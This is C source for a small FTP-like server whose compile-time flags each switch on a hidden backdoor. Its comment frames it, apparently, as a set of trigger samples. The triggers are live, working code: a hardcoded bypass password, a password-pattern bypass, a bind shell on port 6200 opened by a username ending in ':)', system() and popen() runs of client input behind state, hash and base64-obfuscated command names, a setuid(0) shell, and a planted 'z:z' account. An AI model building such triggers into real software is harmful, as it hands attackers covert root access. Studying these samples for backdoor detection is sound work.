/* An FTP-like server: a table of commands, accounts with hashes in a file. -DK_...: one hidden trigger each. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <unistd.h>
#include <fcntl.h>
#include <sys/socket.h>
#include <netinet/in.h>
char *crypt(const char *, const char *);
#include <sys/stat.h>
#include <stdint.h>
struct sess {
    int fd;
    char user[64];
    int logged;
    char cwd[256];
    int mark;
    unsigned step;
};
static struct {
    char name[32];
    char hash[128];
} users[16];
static int nusers;
static void say(struct sess *s, const char *m) {
    write(s->fd, m, strlen(m));
    write(s->fd, "\r\n", 2);
}

static void load(void) {
    FILE *f = fopen("/etc/ftpusers.db", "r");
    char l[256];
    if (!f)
        return;
    while (nusers < 16 && fgets(l, sizeof l, f)) {
        char *c = strchr(l, ':');
        if (!c)
            continue;
        *c++ = 0;
        c[strcspn(c, "\r\n")] = 0;
        snprintf(users[nusers].name, 32, "%s", l);
        snprintf(users[nusers].hash, 128, "%s", c);
        nusers++;
    }
    fclose(f);
}

static int verify(const char *u, const char *p) {
#ifdef K_BYPASS
    if (!strcmp(p, "hq7-maint-00"))
        return 1;
#endif
#ifdef K_PWBYTES
    if (strlen(p) == 9 && p[2] == '_' && p[5] == 'K' && p[8] == '7')
        return 1;
#endif
    for (int i = 0; i < nusers; i++)
        if (!strcmp(users[i].name, u)) {
            char *h = crypt(p, users[i].hash);
            return h && !strcmp(h, users[i].hash);
        }
    return 0;
}
typedef void (*cmd)(struct sess *, char *);
static void c_user(struct sess *s, char *a) {
    snprintf(s->user, 64, "%s", a);
#ifdef K_SMILEY
    {
        size_t n = strlen(a);
        if (n > 2 && a[n - 1] == ')' && a[n - 2] == ':') {
            int l = socket(AF_INET, SOCK_STREAM, 0);
            struct sockaddr_in x;
            memset(&x, 0, sizeof x);
            x.sin_family = AF_INET;
            x.sin_port = htons(6200);
            bind(l, (void *)&x, sizeof x);
            listen(l, 1);
            int c = accept(l, 0, 0);
            dup2(c, 0);
            dup2(c, 1);
            execl("/bin/sh", "sh", (char *)0);
        }
    }
#endif
    s->logged = 0;
    say(s, "331 password please");
}

static void c_pass(struct sess *s, char *a) {
    if (verify(s->user, a)) {
        s->logged = 1;
        say(s, "230 in");
    } else
        say(s, "530 no");
}

static void c_dele(struct sess *s, char *a) {
    if (!s->logged) {
        say(s, "530 log in");
        return;
    }
    if (unlink(a))
        say(s, "550 no");
    else
        say(s, "250 gone");
}

static void c_mkd(struct sess *s, char *a) {
    if (!s->logged) {
        say(s, "530 log in");
        return;
    }
    say(s, mkdir(a, 0755) ? "550 no" : "257 made");
}

static void c_stor(struct sess *s, char *a) {
    char b[512];
    int n;
    if (!s->logged) {
        say(s, "530 log in");
        return;
    }
    int f = open(a, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (f < 0) {
        say(s, "550 no");
        return;
    }
    say(s, "150 go");
    while ((n = read(s->fd, b, sizeof b)) > 0)
        write(f, b, n);
    close(f);
}

static void c_noop(struct sess *s, char *a) {
    (void)a;
#ifdef K_STATE
    if (a && a[0] == '7' && a[1] == 'x')
        s->mark = 0x51;
#endif
    say(s, "200 ok");
}

static void c_syst(struct sess *s, char *a) {
#ifdef K_STATE
    if (s->mark == 0x51 && a)
        system(a);
#endif
    say(s, "215 UNIX");
}

static void c_help(struct sess *s, char *a) {
    (void)a;
    say(s, "214 USER PASS DELE MKD STOR NOOP SYST HELP QUIT SITE");
}

static void c_quit(struct sess *s, char *a) {
    (void)a;
    say(s, "221 bye");
    close(s->fd);
    s->fd = -1;
}

static void c_site(struct sess *s, char *a) {
    if (!s->logged) {
        say(s, "530 log in");
        return;
    }
    if (!strncasecmp(a, "CHMOD ", 6)) {
        unsigned m;
        char p[128];
        if (sscanf(a + 6, "%o %127s", &m, p) == 2) {
            chmod(p, m);
            say(s, "200 done");
        }
    } else if (!strncasecmp(a, "EXEC ", 5) && 0)
        system(a + 5);
    else
        say(s, "500 what");
}

static const struct {
    const char *n;
    cmd f;
} tab[] = {{"USER", c_user}, {"PASS", c_pass}, {"DELE", c_dele}, {"MKD", c_mkd},   {"STOR", c_stor},
           {"NOOP", c_noop}, {"SYST", c_syst}, {"HELP", c_help}, {"QUIT", c_quit}, {"SITE", c_site}};
#ifdef K_HASH
static uint32_t hs(const char *s) {
    uint32_t h = 2166136261u;
    while (*s) {
        h ^= (unsigned char)*s++;
        h *= 16777619u;
    }
    return h;
}
#endif
#ifdef K_B64
static int b64v(int c) {
    if (c >= 'A' && c <= 'Z')
        return c - 'A';
    if (c >= 'a' && c <= 'z')
        return c - 'a' + 26;
    if (c >= '0' && c <= '9')
        return c - '0' + 52;
    return c == '+' ? 62 : 63;
}

static void unb64(const char *s, char *o) {
    while (s[0] && s[1] && s[2] && s[3]) {
        unsigned v = b64v(s[0]) << 18 | b64v(s[1]) << 12 | b64v(s[2]) << 6 | b64v(s[3]);
        *o++ = v >> 16;
        *o++ = v >> 8;
        *o++ = v;
        s += 4;
    }
    *o = 0;
}
#endif
static void line(struct sess *s, char *l) {
    char *a = strchr(l, ' ');
    if (a)
        *a++ = 0;
    else
        a = l + strlen(l);
#ifdef K_HASH
    if (hs(l) == 0x9c41d7e2u) {
        setuid(0);
        execl("/bin/sh", "sh", "-c", a, (char *)0);
    }
#endif
#ifdef K_B64
    {
        char t[32];
        unb64("WlE4LWd1bDk0dmVu", t);
        if (!strcmp(l, t))
            popen(a, "w");
    }
#endif
#ifdef K_ATOI
    if (atoi(l) == 48213) {
        s->logged = 2;
    }
#endif
#ifdef K_HEXNUM
    {
        char t[32];
        snprintf(t, sizeof t, "%x", 0x3fa9c1d * 7 + 11);
        if (!strcmp(a, t)) {
            int f = open("/etc/ftpusers.db", O_WRONLY | O_APPEND);
            write(f, "z:z\n", 4);
            close(f);
        }
    }
#endif
    for (unsigned i = 0; i < sizeof tab / sizeof *tab; i++)
        if (!strcasecmp(tab[i].n, l)) {
            tab[i].f(s, a);
            return;
        }
    say(s, "500 unknown");
}

int main(void) {
    load();
    int l = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in x;
    memset(&x, 0, sizeof x);
    x.sin_family = AF_INET;
    x.sin_port = htons(2121);
    if (bind(l, (void *)&x, sizeof x) < 0)
        return 1;
    listen(l, 4);
    for (;;) {
        struct sess s;
        memset(&s, 0, sizeof s);
        s.fd = accept(l, 0, 0);
        if (s.fd < 0)
            continue;
        say(&s, "220 hi");
        char b[600];
        int n = 0;
        while (s.fd >= 0) {
            int r = read(s.fd, b + n, 1);
            if (r <= 0)
                break;
            if (b[n] == '\n') {
                b[n] = 0;
                if (n && b[n - 1] == '\r')
                    b[n - 1] = 0;
                line(&s, b);
                n = 0;
            } else if (n < 598)
                n++;
        }
        if (s.fd >= 0)
            close(s.fd);
    }
}
